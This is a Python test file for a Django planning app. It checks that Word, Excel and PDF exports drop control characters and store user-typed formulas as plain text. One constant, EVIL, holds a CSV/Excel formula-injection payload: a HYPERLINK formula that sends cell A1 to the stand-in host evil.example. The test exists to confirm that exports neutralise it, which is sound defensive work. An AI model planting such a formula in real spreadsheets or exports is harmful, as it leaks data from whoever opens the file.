"""Text typed by people ends up in files other people open: a formula stays text in Excel and
CSV, control characters XML forbids are dropped on input and never break a download."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from jobmaal.web.followup.models import GoalText, LocalIndicator

from .helpers import OWN, YEAR, add_local, fresh

BASE = f"/opfoelgning/{OWN}/{YEAR}/"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'


def test_the_goal_text_form_drops_control_characters(client, users, plan):
    client.force_login(users["editor"])
    response = client.post(BASE + "maal/1/", {"version": plan.version, "focus": "Fokus\x01 med\x0bstyretegn",
                                              "efforts": "\x1f- Indsats"})
    assert response.status_code == 302
    text = GoalText.objects.get(plan=plan, goal_number=1)
    assert (text.focus, text.efforts) == ("Fokus med\nstyretegn", "- Indsats")


@pytest.mark.django_db
def test_plan_word_and_excel_of_stored_hostile_text_download_with_formulas_as_text(
        loaded_release, client, users, plan):
    """Stored before input was cleaned (the services take any text): downloads still work."""
    from jobmaal.web.followup import services

    editor = users["editor"]
    plan = services.save_goal_text(editor, plan, 1, plan.version, focus="Fokus\x01\x0b= Overskrift",
                                   efforts="@indsats\x02")
    add_local(editor, fresh(plan), name=EVIL, definition="Definition\x0c med sideskift")
    assert LocalIndicator.objects.get(plan=plan).name == EVIL
    client.force_login(editor)

    word = client.get(BASE + "plan.docx")
    assert word.status_code == 200
    paragraphs = "\n".join(p.text for p in Document(io.BytesIO(word.content)).paragraphs)
    assert EVIL in paragraphs and "\x01" not in paragraphs

    excel = client.get(BASE + "plan.xlsx")
    assert excel.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(excel.content))
    assert not any("<f>" in archive.read(n).decode() for n in archive.namelist()
                   if n.startswith("xl/worksheets/"))
    book = load_workbook(io.BytesIO(excel.content))
    name = book["Lokale indikatorer"]["B2"]
    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix
    assert book["Tekst"]["D2"].value == "@indsats" and book["Tekst"]["D2"].quotePrefix

    assert client.get(BASE + "plan.pdf").status_code == 200
